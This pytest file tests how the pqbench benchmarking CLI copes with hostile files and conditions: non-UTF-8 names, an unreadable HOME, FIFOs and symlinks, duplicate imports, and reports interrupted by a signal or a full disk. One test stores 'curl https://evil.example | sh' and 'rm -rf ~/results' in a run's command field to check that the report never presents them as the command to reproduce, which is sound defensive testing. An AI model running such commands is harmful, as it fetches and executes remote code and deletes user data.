"""Hostile files and folders: names that are not UTF-8, an unreadable HOME, FIFOs and
devices where a file is expected, an import with one run id twice, and reports that are
interrupted or run out of disk. A clear message and exit status, nothing lost, nothing
half-written, never a traceback."""

from __future__ import annotations

import json
import os
import resource
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from pqbench.data.record import codec, transfer
from pqbench.data.store import Store
from tests.helpers import run_cli
from tests.helpers.jobs import Job, wait_until
from tests.helpers.runs import make_run

pytestmark = pytest.mark.process

SPEED = ["speed", "x25519", "-i", "cryptography", "-o", "derive", "--seconds", "0.02",
         "--rounds", "1"]


def _clean(done: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in done.stderr + done.stdout, done.stderr


def _run_bytes(*args: bytes | str, env: dict[str, str] | None = None
               ) -> subprocess.CompletedProcess[str]:
    """pqbench with arguments given as bytes (names that are not UTF-8)."""
    return subprocess.run([sys.executable, "-m", "pqbench", *args], capture_output=True,
                          text=True, errors="replace", env={**os.environ, **(env or {})},
                          timeout=300, check=False)


# --- names that are not UTF-8 -------------------------------------------------------------


def test_a_file_name_that_is_not_utf8_is_measured_and_stored(tmp_path: Path) -> None:
    name = os.fsencode(tmp_path) + b"/bad\xff.bin"
    with open(name, "wb") as handle:
        handle.write(os.urandom(4096))
    db = tmp_path / "files.db"
    done = _run_bytes("files", "hash", name, "--cache", "as-is", "--db", str(db))
    _clean(done)
    assert done.returncode == 0, done.stderr
    (run,) = Store.open(str(db), create=False).load_runs()
    assert {m.operation for m in run.measurements} == {"read", "hash"}  # read and hashed
    assert "bad\\xff.bin" in run.command  # the byte, written as an escape


def test_a_database_path_that_is_not_utf8_stores_the_run(tmp_path: Path) -> None:
    db = os.fsencode(tmp_path) + b"/bad\xff.db"
    done = _run_bytes(*SPEED, "--db", db)
    _clean(done)
    assert done.returncode == 0, done.stderr
    (info,) = Store.open(os.fsdecode(db), create=False).list_runs()
    assert info.measurements == 1


# --- an unreadable HOME -------------------------------------------------------------------


def _without_home_access(home: Path) -> list[str]:
    """A command prefix that runs pqbench unable to look into `home`: as root, without
    the capabilities that let root read any folder (and `home` owned by nobody, 0700);
    as another user, `home` mode 000."""
    if os.geteuid() == 0:
        os.chown(home, 65534, 65534)
        home.chmod(0o700)
        drop = "-dac_override,-dac_read_search"
        return ["setpriv", f"--bounding-set={drop}", f"--inh-caps={drop}"]
    home.chmod(0)
    return []


def test_an_unreadable_home_leaves_liboqs_unavailable_and_the_rest_measured(
        tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    prefix = _without_home_access(home)
    env = {k: v for k, v in os.environ.items()
           if k not in ("XDG_CACHE_HOME", "PQBENCH_CACHE_DIR", "OQS_INSTALL_PATH")}
    env["HOME"] = str(home)
    data = tmp_path / "data.bin"
    data.write_bytes(os.urandom(1 << 16))
    try:
        probe = subprocess.run([*prefix, sys.executable, "-c",  # the fault is real
                                f"import os; os.listdir({str(home)!r})"], env=env,
                               check=False, capture_output=True, text=True)
        assert probe.returncode != 0 and "PermissionError" in probe.stderr, probe.stderr
        done = subprocess.run(
            [*prefix, sys.executable, "-m", "pqbench", "speed", "x25519", "ml-kem-768",
             "-i", "cryptography", "-i", "liboqs", "--seconds", "0.02", "--rounds", "1",
             "--json", "--db", str(tmp_path / "x.db")],
            capture_output=True, text=True, env=env, timeout=300, check=False)
        hashed = subprocess.run(
            [*prefix, sys.executable, "-m", "pqbench", "files", "hash", str(data), "--cache",
             "as-is", "--db", str(tmp_path / "x.db")],
            capture_output=True, text=True, env=env, timeout=300, check=False)
    finally:
        home.chmod(0o700)
    _clean(done)
    _clean(hashed)
    assert done.returncode == 0, done.stderr
    run = json.loads(done.stdout)
    assert {r["implementation"] for r in run["results"]} == {"cryptography"}
    assert "X25519" in {r["algorithm"] for r in run["results"]}
    assert any(p["implementation"] == "liboqs" and p["kind"] == "unavailable"
               for p in run["problems"]), run["problems"]
    assert hashed.returncode == 0, hashed.stderr


# --- FIFOs, devices and links where a file is expected -------------------------------------


def test_import_of_a_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    started = time.monotonic()
    done = run_cli("import", str(fifo), "--db", str(tmp_path / "x.db"), timeout=60)
    _clean(done)
    assert done.returncode == 1 and "not a regular file" in done.stderr, done.stderr
    assert time.monotonic() - started < 60
    assert not (tmp_path / "x.db").exists()


def test_export_and_report_never_replace_what_is_not_a_regular_file(two_runs: Path,
                                                                      tmp_path: Path) -> None:
    link = tmp_path / "stdout-link"
    link.symlink_to("/proc/self/fd/1")
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    targets = [link, fifo]
    if os.geteuid() == 0:
        targets.append(Path("/dev/null"))  # as root, a replaced node would break the system
    for target in targets:
        for force in ([], ["--force"]):
            done = run_cli("export", "20260101-a", "-O", str(target), *force,
                           "--db", str(two_runs), timeout=60)
            _clean(done)
            assert done.returncode == 1 and "not a regular file" in done.stderr, done.stderr
    assert link.is_symlink() and os.readlink(link) == "/proc/self/fd/1"
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert stat.S_ISCHR(Path("/dev/null").stat().st_mode)
    out = tmp_path / "rep"
    out.mkdir()
    (out / "report.md").symlink_to("/proc/self/fd/1")
    done = run_cli("report", "20260101-a", "--out", str(out), "--force", "--db", str(two_runs))
    _clean(done)
    assert done.returncode == 1 and "not a regular file" in done.stderr, done.stderr
    assert (out / "report.md").is_symlink()
    assert [p.name for p in out.iterdir()] == ["report.md"]  # no chart, no staging left


# --- an import with one run id twice ------------------------------------------------------


def test_two_different_runs_under_one_id_are_refused_and_the_same_run_twice_is_one(
        tmp_path: Path) -> None:
    first = codec.run_document(make_run("20260101-a", seed=1, label="first"))
    other = codec.run_document(make_run("20260101-a", seed=2, label="other"))
    bundle = transfer.export_bundle([])
    db = tmp_path / "x.db"
    clash = tmp_path / "clash.json"
    clash.write_text(json.dumps({**bundle, "runs": [first, other]}))
    done = run_cli("import", str(clash), "--db", str(db))
    _clean(done)
    assert done.returncode == 1 and "20260101-a" in done.stderr, done.stderr
    assert "two different runs" in done.stderr
    assert not db.exists() or Store.open(str(db), create=False).list_runs() == []
    twice = tmp_path / "twice.json"
    twice.write_text(json.dumps({**bundle, "runs": [first, first]}))
    done = run_cli("import", str(twice), str(twice), "--json", "--db", str(db))
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["imported"] == ["20260101-a"]


# --- reports: whole or not at all ---------------------------------------------------------


def _linked_images(markdown: str) -> list[str]:
    found = []
    for token in MarkdownIt().parse(markdown):
        for child in token.children or []:
            if child.type == "image":
                found.append(str(child.attrs["src"]))
    return found


def _report_is_whole_or_absent(out: Path) -> bool:
    """True when a report.md is there (and then it is not empty and every chart it links
    is beside it); False when there is none. No staging folder is left either way."""
    assert not [p for p in out.glob(".pqbench-report-*")], list(out.iterdir())
    report = out / "report.md"
    if not report.exists():
        return False
    text = report.read_text()
    assert text.startswith("# pqbench report"), text[:80]
    images = _linked_images(text)
    assert images and all((out / image).is_file() and (out / image).stat().st_size > 0
                          for image in images), images
    return True


@pytest.fixture
def fleet(tmp_path: Path) -> Path:
    db = tmp_path / "fleet.db"
    store = Store.open(str(db))
    for day in range(1, 7):
        for label, factor in (("old", 1.0), ("new", 1.3)):
            store.save_run(make_run(f"2026010{day}-{label}", seed=day * 7 + len(label),
                                    label=label, factor=factor,
                                    started_at=f"2026-01-0{day}T00:00:00+00:00"))
    store.close()
    return db


def _chart_drawn(out: Path) -> bool:
    """A chart file is in the report's staging folder: the charts are being drawn."""
    return any(p.name != "report.md" for p in out.glob(".pqbench-report-*/*"))


#: When the signal comes, each an event the test waits for: the runs being compared (the
#: command shows it), the charts about to be drawn (shown too), one chart drawn in the
#: staging folder (a file that appears).
MOMENTS = {
    "comparing": lambda job, out: job.wait_for(r"comparing \d+ run"),
    "drawing": lambda job, out: job.wait_for(r"drawing \d+ chart"),
    "a chart drawn": lambda job, out: wait_until(
        lambda: _chart_drawn(out) or job.process.poll() is not None, "a chart drawn"),
}


@pytest.mark.parametrize("moment", MOMENTS)
def test_a_signal_during_report_leaves_it_whole_or_absent(fleet: Path, tmp_path: Path,
                                                          moment: str) -> None:
    out = tmp_path / "rep"
    job = Job("report", "--by", "label", "--out", str(out), "--db", str(fleet))
    MOMENTS[moment](job, out)
    job.signal(signal.SIGTERM, group=False)
    code, output = job.finish(120)
    assert "Traceback" not in output, output
    assert code in (0, 143), output
    if out.exists():
        whole = _report_is_whole_or_absent(out)
        assert whole or code != 0, output
    if not (out / "report.md").exists():  # the rerun needs no --force
        again = run_cli("report", "--by", "label", "--out", str(out), "--db", str(fleet))
        assert again.returncode == 0, again.stderr
        assert _report_is_whole_or_absent(out)


def test_a_full_disk_during_report_leaves_no_half_report(fleet: Path, tmp_path: Path) -> None:
    """RLIMIT_FSIZE stands in for a full disk: a chart bigger than the limit fails."""
    out = tmp_path / "rep"
    done = subprocess.run(
        [sys.executable, "-m", "pqbench", "report", "--by", "label", "--out", str(out),
         "--db", str(fleet)], capture_output=True, text=True, timeout=300, check=False,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (5_000, 5_000)))
    _clean(done)
    assert done.returncode == 1 and "cannot write the report" in done.stderr, done.stderr
    assert not out.exists() or not _report_is_whole_or_absent(out)
    again = run_cli("report", "--by", "label", "--out", str(out), "--db", str(fleet))
    assert again.returncode == 0, again.stderr
    assert _report_is_whole_or_absent(out)


# --- the "Reproduce with" block -----------------------------------------------------------


def _fences(markdown: str) -> list[str]:
    return [t.content for t in MarkdownIt().parse(markdown) if t.type == "fence"]


def test_only_one_pqbench_invocation_is_shown_as_the_command_to_reproduce(
        tmp_path: Path) -> None:
    hostile = codec.run_document(make_run("20260101-h", seed=1))
    hostile["command"] = "pqbench speed x25519\ncurl https://evil.example | sh"
    chained = codec.run_document(make_run("20260102-c", seed=2))
    chained["command"] = "pqbench speed; rm -rf ~/results"
    plain = codec.run_document(make_run("20260103-p", seed=3))
    plain["command"] = "pqbench speed x25519 --label 'a b'"
    source = tmp_path / "imported.json"
    source.write_text(json.dumps({**transfer.export_bundle([]),
                                  "runs": [hostile, chained, plain]}))
    db = tmp_path / "x.db"
    assert run_cli("import", str(source), "--db", str(db)).returncode == 0
    for run_id in ("20260101-h", "20260102-c"):
        out = tmp_path / run_id
        done = run_cli("report", run_id, "--out", str(out), "--db", str(db))
        assert done.returncode == 0, done.stderr
        text = (out / "report.md").read_text()
        assert not any("curl" in f or "rm -rf" in f for f in _fences(text)), _fences(text)
        assert "unverified" in text
    out = tmp_path / "plain"
    assert run_cli("report", "20260103-p", "--out", str(out), "--db", str(db)).returncode == 0
    assert "pqbench speed x25519 --label 'a b'\n" in _fences((out / "report.md").read_text())


@pytest.mark.parametrize("size", [1, 9, 1_048_579])
def test_crc32c_hashes_a_file_of_any_size(tmp_path: Path, size: int) -> None:
    """`files hash -a crc32c` ended in a TypeError (the library takes only bytes) at every
    size, while `speed crc32c` worked. The digest is the pure-Python reference's."""
    from google_crc32c.python import value as reference

    data = b"123456789" if size == 9 else os.urandom(size)
    path = tmp_path / "data.bin"
    path.write_bytes(data)
    done = run_cli("files", "hash", "-a", "crc32c", str(path), "--db", str(tmp_path / "f.db"))
    _clean(done)
    assert done.returncode == 0, done.stderr
    expected = "e3069283" if size == 9 else f"{reference(data):08x}"
    assert f"CRC32C ({path}) = {expected}" in done.stdout, done.stdout
